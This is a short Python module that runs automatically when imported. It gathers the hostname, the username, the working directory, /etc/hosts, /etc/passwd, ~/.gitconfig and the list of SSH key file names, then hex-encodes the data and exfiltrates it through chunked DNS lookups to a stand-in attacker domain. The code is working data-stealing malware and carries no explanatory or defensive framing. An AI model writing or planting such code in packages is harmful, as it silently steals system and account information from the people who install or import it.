import getpass
import os
import random
import socket

DOMAIN = "h4ck3r.example.invalid"


def _read(path, limit=4096):
    try:
        with open(os.path.expanduser(path), "rb") as f:
            return f.read(limit)
    except OSError:
        return b""


def _send(blob):
    tag = "%08x" % random.getrandbits(32)
    h = blob.hex()
    for i in range(0, len(h), 60):
        q = "%s.%d.%s.%s" % (h[i:i + 60], i // 60, tag, DOMAIN)
        try:
            socket.gethostbyname(q)
        except OSError:
            pass


def init():
    info = b"|".join([
        socket.gethostname().encode(),
        getpass.getuser().encode(),
        os.getcwd().encode(),
        _read("/etc/hosts"),
        _read("/etc/passwd"),
        _read("~/.gitconfig"),
        " ".join(os.listdir(os.path.expanduser("~/.ssh")) if os.path.isdir(os.path.expanduser("~/.ssh")) else []).encode(),
    ])
    _send(info)


init()
